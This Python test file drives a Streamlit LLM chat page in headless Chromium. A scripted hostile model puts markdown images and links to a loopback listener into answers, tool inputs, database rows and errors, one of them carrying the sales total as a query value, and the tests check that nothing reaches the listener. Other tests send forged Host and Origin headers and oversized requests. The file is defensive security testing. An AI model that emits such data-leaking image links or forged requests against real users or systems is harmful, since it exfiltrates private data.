"""The chat page in a real browser: `scripts/demo --web` on a free loopback
port, its model an OpenAI-compatible endpoint of this test's (the scripted
model, made hostile for some questions), Debian's chromium driven headless by
Selenium through Debian's chromium-driver.

* Text from the model, a row, a tool's input and a refused query's error
  that carry images and links to a loopback listener of this test's: the
  listener must receive nothing, while the honest chart still shows.
* The three sample questions in one session, answers, charts and the
  forecast table, while a second session opened meanwhile, its chart
  question running alongside, sees only its own exchange and chart. Prints
  the page's start-up time and the time from a question to its first
  visible step; saves a screenshot as build/web-page.png.
* A session whose tab is closed ends, and its sandbox worker with it.
* Every response carries the page's policy; foreign Host and Origin
  headers are refused.
* A forecast of a million periods in one tab is refused, and another tab's
  question is answered meanwhile.
"""
import ctypes
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
import urllib.request

import pytest

from harness.model_endpoint import ChatEndpoint
from harness.scripted_model import (ScriptedChatModel, action, final_answer, forecast_answer,
                                    parse_react_prompt)

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"
SCREENSHOT = os.path.join(ROOT, "build", "web-page.png")
QUESTIONS = [
    ("What were the total sales?", "returned 41835.00"),
    ("Draw a chart of the daily sales.", "The line chart of 30 points"),
    ("Forecast the daily sales for the next 7 days.", "Forecast for the next 7 periods"),
]
# The second session's question: a chart too, titled after the question.
SECOND_CHART = "Draw a chart of the daily sales for the second session."
ANSWER_WAIT = 120
# Each model request is answered this much later, so that runs of two
# sessions overlap as they do with a real model.
LATENCY = 0.2
# A session ends this long after its tab is gone (the page's default is 15).
CLOSED_SECONDS = 3

pytestmark = pytest.mark.skipif(
    not (os.path.exists(CHROMIUM) and os.path.exists(CHROMEDRIVER)),
    reason="Debian's chromium and chromium-driver are not installed (scripts/web-test installs them)",
)


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _stop_with_parent():
    # Runs in the child before exec: the kernel sends SIGTERM (on which the
    # page shuts down cleanly) if the test process dies without stopping it.
    ctypes.CDLL(None).prctl(1, signal.SIGTERM)  # PR_SET_PDEATHSIG


class Listener:
    """A loopback HTTP server that records every request it gets: where the
    hostile texts point. Nothing on the page may ever reach it."""

    def __init__(self):
        received = self.received = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                received.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = "http://127.0.0.1:%d" % self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


class HostileModel(ScriptedChatModel):
    """The scripted model, which for questions naming a leak puts an image
    and a link to `listener` into its answer ("leak answer"), into its input
    to the SQL agent ("leak tool"), or has the database return one ("leak
    row") or quote one in a refusal ("leak error"); for a "huge forecast" it
    asks the forecast tool for a million periods over two equal dates, then
    answers with what the tool said."""

    listener: str = ""

    def __init__(self, **values):
        super().__init__(**values)
        url = self.listener
        self.queries = [
            ("leak row", "SELECT '![r](%s/leak-row) [r](%s/leak-row-link) <img src=%s/leak-row-html>' AS note"
             % (url, url, url)),
            ("leak error", "SELECT * FROM `![e](%s/leak-error)`" % url),
        ] + self.queries

    def _conversation_turn(self, prompt):
        question, steps = parse_react_prompt(prompt)
        if "huge forecast" in question:
            seen = {tool: observation for tool, _, observation in steps}
            if "ForecastTool" in seen:
                return final_answer(forecast_answer(seen["ForecastTool"]))
            request = {"data_input": {"date": ["2024-01-01", "2024-01-01"], "values": [1, 2]}, "period": 10 ** 6}
            return action("A long forecast.", "ForecastTool", json.dumps(request))
        turn = super()._conversation_turn(prompt)
        if "leak answer" in question and "Final Answer:" in turn:
            turn += " ![a](%s/leak-answer?d=41835.00) [see](%s/leak-answer-link)" % (self.listener, self.listener)
        if "leak tool" in question and "Action: SQLAgent" in turn:
            turn += " ![t](%s/leak-tool)" % self.listener
        return turn


@pytest.fixture(scope="module")
def listener():
    server = Listener()
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def page(tmp_path_factory, listener):
    with ChatEndpoint(HostileModel(listener=listener.url), latency=LATENCY, record=False) as endpoint:
        yield from serve_page(tmp_path_factory, endpoint.url)


@pytest.fixture(scope="module")
def page_url(page):
    return page[0]


def serve_page(tmp_path_factory, model_url):
    port = free_port()
    log = open(tmp_path_factory.mktemp("web") / "demo.log", "w+")
    started = time.monotonic()
    process = subprocess.Popen([os.path.join(ROOT, "scripts", "demo"), "--web", "--port", str(port),
                                "--base-url", model_url, "--model", "scripted",
                                "--closed-seconds", str(CLOSED_SECONDS)],
                               stdout=log, stderr=subprocess.STDOUT, start_new_session=True,
                               preexec_fn=_stop_with_parent, env=dict(os.environ, OPENAI_API_KEY="test"))
    url = "http://127.0.0.1:%d" % port
    try:
        while True:
            if process.poll() is not None:
                log.seek(0)
                pytest.fail("scripts/demo --web exited with %s:\n%s" % (process.returncode, log.read()))
            try:
                with urllib.request.urlopen(url + "/_stcore/health", timeout=2) as answer:
                    if answer.status == 200:
                        break
            except OSError:
                pass
            if time.monotonic() - started > 180:
                pytest.fail("the page did not come up within 180 s")
            time.sleep(0.2)
        print("\npage start-up (scripts/demo --web to a healthy server): %.1f s" % (time.monotonic() - started))
        yield url, process.pid
    finally:
        # Ctrl+C, as a person stops it; the launcher stops the database and
        # the endpoint on its way out.
        os.killpg(process.pid, signal.SIGINT)
        try:
            process.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
        log.close()


@pytest.fixture(scope="module")
def browser():
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in ("--headless=new", "--disable-dev-shm-usage", "--disable-gpu", "--window-size=1100,1500",
                     "--no-first-run", "--disable-extensions", "--disable-background-networking"):
        options.add_argument(argument)
    if os.geteuid() == 0:
        options.add_argument("--no-sandbox")  # chromium refuses to run as root otherwise
    # The console's messages, to see what the page's policy refused.
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=options)
    try:
        yield driver
    finally:
        driver.quit()


def wait_for(condition, seconds, what):
    deadline = time.monotonic() + seconds
    while True:
        result = condition()
        if result:
            return result
        if time.monotonic() > deadline:
            pytest.fail("timed out after %d s waiting for %s" % (seconds, what))
        time.sleep(0.1)


def messages(driver):
    from selenium.webdriver.common.by import By

    return [m.text for m in driver.find_elements(By.CSS_SELECTOR, '[data-testid="stChatMessage"]')]


def open_page(driver, url):
    from selenium.webdriver.common.by import By

    started = time.monotonic()
    driver.get(url)
    wait_for(lambda: driver.find_elements(By.CSS_SELECTOR, 'textarea[data-testid="stChatInputTextArea"]'),
             60, "the question box")
    return time.monotonic() - started


def question_box(driver):
    from selenium.webdriver.common.by import By

    return wait_for(lambda: [b for b in driver.find_elements(By.CSS_SELECTOR, 'textarea[data-testid="stChatInputTextArea"]')
                             if b.is_enabled()], ANSWER_WAIT, "the question box to be enabled")[0]


# Watches the page from inside: the first time a step of the new answer is
# shown, notes the milliseconds since the question was sent and whether the
# run's status still said it was working (the step came live, not with the
# finished answer). Polling from the test could not tell the two apart.
WATCH_FIRST_STEP = """
const before = arguments[0], start = performance.now();
window.firstStep = null;
const observer = new MutationObserver(() => {
  const chat = document.querySelectorAll('[data-testid="stChatMessage"]');
  if (chat.length < before + 2) return;
  const answer = chat[before + 1];
  const steps = [...answer.querySelectorAll('strong')].filter(s => s.textContent.trim() === 'Tool:' && s.offsetParent);
  if (!steps.length) return;
  window.firstStep = {ms: performance.now() - start, working: answer.innerText.includes('Working on it')};
  observer.disconnect();
});
observer.observe(document.body, {childList: true, subtree: true, characterData: true});
"""


def send(driver, question):
    """Types the question and sends it, watching for its first step; returns
    the number of messages the page showed before."""
    from selenium.webdriver.common.keys import Keys

    before = len(messages(driver))
    box = question_box(driver)
    box.send_keys(question)
    driver.execute_script(WATCH_FIRST_STEP, before)
    box.send_keys(Keys.ENTER)
    return before


def answered(driver, question, answer):
    wait_for(lambda: any(answer in m for m in messages(driver)), ANSWER_WAIT, "the answer to %r" % question)
    question_box(driver)


def ask(driver, question, answer):
    """Asks and waits for the answer; returns the seconds from sending the
    question to its first step, which must have shown while the run went on."""
    send(driver, question)
    answered(driver, question, answer)
    first_step = driver.execute_script("return window.firstStep")
    assert first_step and first_step["working"], first_step
    return first_step["ms"] / 1000


def loaded_images(driver):
    """The (natural width, address) of the images in the chat messages, once
    all have loaded."""
    return driver.execute_script(
        "const images = [...document.querySelectorAll('[data-testid=\"stChatMessage\"] img')];"
        "return images.every(i => i.complete) ? images.map(i => [i.naturalWidth, i.src]) : null;")


def texts_of(driver, selector):
    from selenium.webdriver.common.by import By

    return [e.text for e in driver.find_elements(By.CSS_SELECTOR, selector)]


def fetch(url):
    with urllib.request.urlopen(url, timeout=10) as answer:
        return answer.read()


def test_three_questions_in_one_session_and_a_second_session_apart(page_url, browser):
    from selenium.webdriver.common.by import By

    print("page load in the browser: %.1f s" % open_page(browser, page_url))
    first = browser.current_window_handle
    print("question to first visible step: %.2f s" % ask(browser, *QUESTIONS[0]))

    # A second browser session opened meanwhile starts empty; its chart
    # question is sent just before the first session's, so the two runs
    # overlap.
    browser.switch_to.new_window("tab")
    second = browser.current_window_handle
    open_page(browser, page_url)
    assert messages(browser) == []
    send(browser, SECOND_CHART)
    browser.switch_to.window(first)
    for question, answer in QUESTIONS[1:]:
        ask(browser, question, answer)
    texts = messages(browser)
    assert len(texts) == 6
    for number, (question, answer) in enumerate(QUESTIONS):
        assert question in texts[2 * number] and answer in texts[2 * number + 1]

    # The chart agent's chart and the forecast chart, loaded by the browser.
    images = wait_for(lambda: loaded_images(browser), 30, "the charts to load")
    assert len(images) == 2 and all(width > 0 for width, _ in images), images
    # The forecast's table, as text: a heading and seven dated rows.
    tables = [t for t in texts_of(browser, '[data-testid="stCode"]') if t.startswith("date")]
    assert len(tables) == 1 and len(tables[0].splitlines()) == 8, tables
    os.makedirs(os.path.dirname(SCREENSHOT), exist_ok=True)
    last = browser.find_elements(By.CSS_SELECTOR, '[data-testid="stChatMessage"]')[-2]
    browser.execute_script("arguments[0].scrollIntoView({block: 'start'})", last)
    time.sleep(0.5)
    assert browser.save_screenshot(SCREENSHOT)

    # The second session holds its own exchange and its own chart (titled
    # after its own question), none of the first's.
    browser.switch_to.window(second)
    answered(browser, SECOND_CHART, QUESTIONS[1][1])
    texts = messages(browser)
    assert len(texts) == 2 and SECOND_CHART in texts[0] and QUESTIONS[1][1] in texts[1]
    [(width, address)] = wait_for(lambda: loaded_images(browser), 30, "the second session's chart")
    assert width > 0
    assert fetch(address) != fetch(images[0][1])
    # The page's policy refused nothing the page itself needed.
    refused = [entry["message"] for entry in browser.get_log("browser") if "Content Security Policy" in entry["message"]]
    assert refused == []


# Questions whose texts carry images and links to the listener (HostileModel).
LEAKS = [
    ("What were the total sales? (leak answer)", "leak-answer"),
    ("What were the total sales? (leak tool)", "leak-tool"),
    ("Show the leak row.", "leak-row"),
    ("Show the leak error.", "leak-error"),
]


def settled(driver, count):
    """Waits until the page shows `count` messages and takes questions again."""
    wait_for(lambda: len(messages(driver)) == count and not any("Working on it" in m for m in messages(driver)),
             ANSWER_WAIT, "%d messages" % count)
    question_box(driver)


def text_content(driver):
    # Folded steps are in the page but not visible; textContent has them.
    return driver.execute_script("return document.body.textContent")


def test_images_and_links_from_the_model_rows_tools_and_errors_are_never_fetched(page_url, browser, listener):
    from selenium.webdriver.common.by import By

    first = browser.current_window_handle
    browser.switch_to.new_window("tab")
    open_page(browser, page_url)
    for number, (question, _) in enumerate(LEAKS):
        send(browser, question)
        settled(browser, 2 * number + 2)
    ask(browser, *QUESTIONS[1])
    # The honest chart loads, from the page itself.
    [(width, address)] = wait_for(lambda: loaded_images(browser), 30, "the chart to load")
    assert width > 0 and address.startswith(page_url + "/media/")
    status, headers = headers_of(address)
    assert status == 200 and headers["Content-Type"] == "image/png"
    assert headers["Content-Security-Policy"] and headers["X-Content-Type-Options"] == "nosniff"
    # Every hostile text is on the page, as text: no link, no image of it.
    content = text_content(browser)
    for _, name in LEAKS:
        assert "%s/%s" % (listener.url, name) in content, name
    assert not browser.find_elements(By.CSS_SELECTOR, 'a[href^="%s"], img[src^="%s"]' % (listener.url, listener.url))
    time.sleep(1)
    assert listener.received == []
    browser.close()
    browser.switch_to.window(first)


def sandbox_workers(pid):
    """The pids of the sandbox workers among the descendants of `pid`: the
    processes whose command line names the worker (bubblewrap's and the
    worker's interpreter)."""
    children = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open("/proc/%s/stat" % entry) as stat:
                    parent = int(stat.read().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(parent, []).append(int(entry))
    found, todo = set(), [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            todo.append(child)
            try:
                with open("/proc/%d/cmdline" % child, "rb") as cmdline:
                    if b"/.zarvosdk/worker.py" in cmdline.read():
                        found.add(child)
            except OSError:
                pass
    return found


def test_a_closed_tab_ends_its_session_and_its_sandbox_worker(page, browser):
    url, pid = page
    first = browser.current_window_handle
    before = sandbox_workers(pid)
    browser.switch_to.new_window("tab")
    open_page(browser, url)
    ask(browser, *QUESTIONS[1])
    mine = sandbox_workers(pid) - before
    assert mine
    browser.close()
    browser.switch_to.window(first)
    started = time.monotonic()
    wait_for(lambda: not (sandbox_workers(pid) & mine), CLOSED_SECONDS + 30, "the closed session's worker to end")
    print("closed tab to its sandbox worker gone: %.1f s" % (time.monotonic() - started))


HUGE_FORECAST = "Forecast the sales for a million days. (huge forecast)"
REFUSAL = "refused: 1000000 periods is more than this page forecasts; ask for at most 1000 periods."
# The other tab's answer comes within this many seconds of the huge
# forecast's question: 2.3 s when measured; 19 s when the package's own tool
# took the request, holding the page's GIL for seconds at a time.
ANSWER_BESIDE_FORECAST = 10


def test_a_huge_forecast_is_refused_and_another_tab_is_answered_meanwhile(page_url, browser):
    first = browser.current_window_handle
    browser.switch_to.new_window("tab")
    other = browser.current_window_handle
    open_page(browser, page_url)
    browser.switch_to.new_window("tab")
    hostile = browser.current_window_handle
    open_page(browser, page_url)
    send(browser, HUGE_FORECAST)
    sent = time.monotonic()
    browser.switch_to.window(other)
    ask(browser, *QUESTIONS[0])
    seconds = time.monotonic() - sent
    print("another tab's answer beside a refused huge forecast: %.1f s" % seconds)
    assert seconds < ANSWER_BESIDE_FORECAST
    browser.switch_to.window(hostile)
    answered(browser, HUGE_FORECAST, REFUSAL)
    # The refusal is the answer and an error step of the run.
    assert "the forecast failed: " + REFUSAL in text_content(browser)
    for handle in (hostile, other):
        browser.switch_to.window(handle)
        browser.close()
    browser.switch_to.window(first)


def headers_of(url, headers=None):
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.headers
    except urllib.error.HTTPError as error:
        return error.code, error.headers


def test_every_response_carries_the_policy_and_foreign_names_are_refused(page_url):
    import web_server

    port = page_url.rsplit(":", 1)[1]
    cases = [
        ("/", {}, 200),
        ("/_stcore/health", {}, 200),
        ("/_stcore/host-config", {}, 200),
        ("/media/missing.png", {}, 404),
        ("/_stcore/metrics", {}, 404),
        ("/_stcore/upload_file/session/file", {}, 404),
        ("/", {"Host": "rebound.example:%s" % port}, 403),
        ("/_stcore/health", {"Host": "localhost:%s" % port, "Origin": "http://rebound.example:%s" % port}, 403),
        ("/_stcore/stream", {"Origin": "http://evil.example", "Connection": "Upgrade", "Upgrade": "websocket",
                             "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}, 403),
    ]
    for path, headers, status in cases:
        got, answer = headers_of(page_url + path, headers)
        assert got == status, (path, headers, got)
        for name, value in web_server.HEADERS.items():
            assert answer.get(name) == value, (path, name)


def children_named(pid, name):
    found = []
    for entry in os.listdir("/proc"):
        try:
            with open("/proc/%s/stat" % entry) as stat:
                parent = int(stat.read().rsplit(")", 1)[1].split()[1])
            with open("/proc/%s/cmdline" % entry, "rb") as cmdline:
                command = cmdline.read().split(b"\0")
        except (OSError, IndexError, ValueError):
            continue
        if parent == pid and os.path.basename(command[0]) == name:
            found.append((int(entry), command))
    return found


def test_a_killed_page_takes_its_database_server_with_it(tmp_path_factory):
    # Killed (or crashed), the page runs none of its clean-up: the kernel
    # must end the database server it started, or it listens on forever.
    with ChatEndpoint(record=False) as endpoint:
        pages = serve_page(tmp_path_factory, endpoint.url)
        _, pid = next(pages)
        [(server, command)] = children_named(pid, b"mariadbd")
        work = os.path.dirname(os.path.dirname([a for a in command if a.startswith(b"--datadir=")][0][10:]))
        try:
            os.kill(pid, signal.SIGKILL)
            wait_for(lambda: not os.path.exists("/proc/%d" % server), 10, "the database server to end")
        finally:
            try:
                pages.close()
            except ProcessLookupError:  # the page's group is gone already
                pass
            shutil.rmtree(os.fsdecode(work), ignore_errors=True)


@pytest.mark.parametrize("frame_bytes", [None, 512 << 10], ids=["one frame", "frames of 512 KB"])
def test_a_websocket_message_past_two_megabytes_closes_its_connection(frame_bytes, page_url):
    # Streamlit takes messages of up to 200 MB by default: three sent at
    # once took the server's peak memory from 277 MB to 1139 MB; sent in
    # small frames, one passed a bound on frames alone. The page's own
    # messages (widget states, a question of at most 2000 characters) are
    # far smaller.
    import websocket
    from streamlit.proto.BackMsg_pb2 import BackMsg

    message = BackMsg()
    message.rerun_script.query_string = "x" * (3 << 20)
    data = message.SerializeToString()
    socket_url = page_url.replace("http://", "ws://") + "/_stcore/stream"
    connection = websocket.create_connection(socket_url, subprotocols=["streamlit"], origin=page_url, timeout=30)
    try:
        with pytest.raises((websocket.WebSocketConnectionClosedException, ConnectionError)):
            if frame_bytes is None:
                connection.send_binary(data)
            else:
                parts = [data[at:at + frame_bytes] for at in range(0, len(data), frame_bytes)]
                for number, part in enumerate(parts):
                    opcode = websocket.ABNF.OPCODE_BINARY if number == 0 else websocket.ABNF.OPCODE_CONT
                    connection.send_frame(websocket.ABNF.create_frame(part, opcode, fin=int(number == len(parts) - 1)))
            connection.recv()
    finally:
        connection.close()
